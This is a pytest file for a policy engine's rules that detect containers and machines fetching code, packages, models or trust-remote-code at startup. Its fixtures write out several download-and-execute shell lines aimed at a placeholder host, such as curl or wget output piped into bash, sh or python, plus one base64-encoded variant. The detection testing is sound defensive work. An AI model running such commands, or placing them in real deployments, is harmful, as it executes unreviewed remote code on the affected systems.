from base64 import b64encode

import pytest

from policies.engine.evaluate import judge
from policies.engine.graph import UNKNOWN, Graph
from policies.rules.credentials.in_objects import USER_DATA
from policies.rules.kubernetes.startup_commands import RULES
from tests.policies.cases import Case, RuleCases, cases_test, resource
from tests.policies.model_examples import engine, llm, service

OTHER = [Case(resource("kubernetes:core/v1:Service", {"kind": "Service"}))]


def pod(**container):
    spec = {"containers": [{"name": "app", **container}]}
    return resource("kubernetes:batch/v1:Job", {"kind": "Job", "spec": {"template": {"spec": spec}}})


def machine(said):
    return resource(USER_DATA[0], {"userData": said})


def step(**container):
    spec = {"steps": [{"name": "build", "image": "a/b:1", **container}]}
    return resource("kubernetes:tekton.dev/v1:Task", {"kind": "Task", "spec": spec})


def workflow(script):
    spec = {"templates": [{"name": "t", "script": script}]}
    return resource("kubernetes:argoproj.io/v1alpha1:Workflow", {"kind": "Workflow", "spec": spec})


OFFLINE = {"name": "HF_HUB_OFFLINE", "value": "1"}
PIPES = "spec.template.spec.containers[0].command[2]: container app pipes a download into an interpreter when it starts"
RUNS = "spec.template.spec.containers[0].command[2]: container app runs a downloaded script when it starts"

CASES = {
    "containers-run-what-their-image-holds": RuleCases(
        passing=[
            Case(pod(command=["python", "-m", "serve"])),
            Case(pod(command=["sh", "-c", "exec serve --install-dir /opt/pip"])),
            Case(pod(command=["sh", "-c", "curl -sf http://localhost:8080/healthz"])),
            Case(pod(command=["sh", "-c", "curl -so /tmp/answer.json http://a && cat /tmp/answer.json"])),
            Case(pod(args=["--model", "org/name"])),
            Case(pod(command=["python", "-c", "AutoModel.from_pretrained('./models/name')"])),
            Case(pod(image="vllm/vllm-openai:v1", args=["--model", "/mnt/models", "--port=8000"])),
            Case(pod(image="vllm/vllm-openai:v1", args=["--model=org/name"], env=[OFFLINE])),
            Case(step(script="pip install -r requirements.txt && git clone https://example.com/a")),
            Case(llm()),
            Case(service()),
        ],
        failing=[
            *(
                Case(
                    pod(command=["sh", "-c", f"curl -s https://x.example.com/i.sh {rest}"]), findings=[PIPES]
                )
                for rest in ("| python3 -", "| sudo /bin/bash -s -- -y")
            ),
            *(
                Case(pod(command=["bash", "-c", said]), findings=[RUNS])
                for said in (
                    "curl -fsSL https://x.example.com/i -o /tmp/i.sh && sh /tmp/i.sh",
                    "wget -O i.py https://x.example.com/i.py\npython3 i.py",
                    "curl https://x.example.com/i > ./i; chmod +x ./i; ./i",
                    "source <(curl -s https://x.example.com/i)",
                    "python3 <(wget -qO- https://x.example.com/i)",
                )
            ),
            Case(
                step(script="#!/bin/sh\ncurl https://x.example.com/i | sh"),
                findings=[
                    "spec.steps[0].script: container build pipes a download into an interpreter when it starts"
                ],
            ),
            Case(
                pod(image="vllm/vllm-openai:v1", args=["--model", "org/name"]),
                findings=[
                    "spec.template.spec.containers[0].args[1]: container app takes org/name from a hub (--model)"
                ],
            ),
            Case(
                pod(command=["sh", "-c", "exec vllm serve org/name --port 1"]),
                findings=[
                    "spec.template.spec.containers[0].command[2]: container app takes org/name from a hub (vllm serve)"
                ],
            ),
            Case(
                pod(image="tgi:1", args=["--model-id=org/name"], env=[{**OFFLINE, "value": "0"}]),
                findings=[
                    "spec.template.spec.containers[0].env[0].value: container app may ask a hub (HF_HUB_OFFLINE is 0)",
                    "spec.template.spec.containers[0].args[0]: container app takes org/name from a hub (--model-id)",
                ],
            ),
            Case(
                pod(env=[{"name": "MODEL_ID", "value": "org/name"}]),
                findings=[
                    "spec.template.spec.containers[0].env[0].value: container app takes org/name from a hub (MODEL_ID)"
                ],
            ),
            Case(
                pod(lifecycle={"postStart": {"exec": {"command": ["sh", "-c", "pip install x"]}}}),
                findings=[
                    (
                        "spec.template.spec.containers[0].lifecycle.postStart.exec.command[2]: "
                        "container app installs packages when it starts"
                    )
                ],
            ),
            Case(
                pod(command=["python", "-c", "AutoModel.from_pretrained('org/name')"]),
                findings=[
                    (
                        "spec.template.spec.containers[0].command[2]: container app fetches a model from a "
                        "hub when it starts"
                    )
                ],
            ),
            Case(
                workflow({"image": "a:1", "command": ["sh"], "source": "pip install torch"}),
                findings=["spec.templates[0].script.source: container t installs packages when it starts"],
            ),
            Case(
                pod(command=["sh", "-c", "curl -s https://x.example.com/i.sh | bash"]),
                findings=[
                    (
                        "spec.template.spec.containers[0].command[2]: container app pipes a download into an "
                        "interpreter when it starts"
                    )
                ],
            ),
            Case(
                pod(command=["sh", "-c"], args=["pip install -q vllm && vllm serve"]),
                findings=[
                    "spec.template.spec.containers[0].args[0]: container app installs packages when it starts"
                ],
            ),
            Case(
                engine(
                    lambda c: c.update(command=["bash", "-c", "git clone https://x.example.com/m && serve"])
                ),
                findings=[
                    "spec.template.containers[0].command[2]: container main clones a repository when it starts"
                ],
            ),
        ],
        not_applicable=OTHER,
        undecided=[Case(pod(command=["sh", "-c", UNKNOWN]))],
    ),
    "containers-run-no-code-of-weights": RuleCases(
        passing=[
            Case(pod(args=["--model", "/models", "--trust-remote-code=false"])),
            Case(pod(env=[{"name": "TRUST_REMOTE_CODE", "value": "0"}])),
            Case(pod(env=[{"name": "EXTRA", "value": "--max-model-len 8192"}])),
            Case(llm()),
        ],
        failing=[
            Case(
                pod(env=[{"name": "EXTRA", "value": "--max-model-len 8192 --trust-remote-code"}]),
                findings=[
                    (
                        "spec.template.spec.containers[0].env[0].value: container app runs code that comes "
                        "with the weights (--trust-remote-code)"
                    )
                ],
            ),
            Case(
                pod(args=["--model", "/models", "--trust-remote-code"]),
                findings=[
                    (
                        "spec.template.spec.containers[0].args[2]: container app runs code that comes with "
                        "the weights (--trust-remote-code)"
                    )
                ],
            ),
            Case(
                pod(command=["sh", "-c", "vllm serve /m --trust_remote_code=True --port 1"]),
                findings=[
                    (
                        "spec.template.spec.containers[0].command[2]: container app runs code that comes "
                        "with the weights (--trust_remote_code=True)"
                    )
                ],
            ),
            Case(
                pod(env=[{"name": "VLLM_TRUST_REMOTE_CODE", "value": "true"}]),
                findings=[
                    (
                        "spec.template.spec.containers[0].env[0].value: container app runs code that comes "
                        "with the weights (VLLM_TRUST_REMOTE_CODE)"
                    )
                ],
            ),
        ],
        not_applicable=OTHER,
        undecided=[Case(pod(env=UNKNOWN))],
    ),
    "machines-run-what-was-reviewed": RuleCases(
        passing=[
            Case(machine("#!/bin/bash\nyum install -y amazon-cloudwatch-agent\n")),
            Case(machine("#!/bin/bash\ncurl -sf http://169.254.169.254/latest/meta-data/ > /run/id\n")),
            Case(machine(None)),
        ],
        failing=[
            Case(
                machine("#!/bin/bash\ncurl -s https://x.example.com/i.sh | bash\n"),
                findings=["userData: pipes a download into an interpreter when the machine starts"],
            ),
            Case(
                machine(b64encode(b'bash -c "$(curl -fsSL https://x.example.com/i.sh)"').decode()),
                findings=["userData: runs a downloaded script when the machine starts"],
            ),
        ],
        not_applicable=OTHER,
        undecided=[Case(machine(UNKNOWN))],
    ),
}

test_cases = cases_test(RULES, CASES)


@pytest.mark.parametrize(
    "said",
    [
        "wget -qO- https://x.example.com/i.sh | sh",
        'bash -c "$(curl -fsSL https://x.example.com/i.sh)"',
        "bash <(curl -s https://x.example.com/i.sh)",
        "apt-get -y install git",
        "apk add --no-cache git",
        "uv pip install torch",
        "npm ci",
        "huggingface-cli download org/model",
        "hf download org/model",
        "python -c 'from huggingface_hub import snapshot_download; snapshot_download(\"org/model\")'",
    ],
)
def test_every_way_of_fetching_code_is_found(said):
    findings = judge(Graph([pod(command=["sh", "-c", said])]), RULES).findings
    assert [finding.rule for finding in findings] == ["containers-run-what-their-image-holds"]
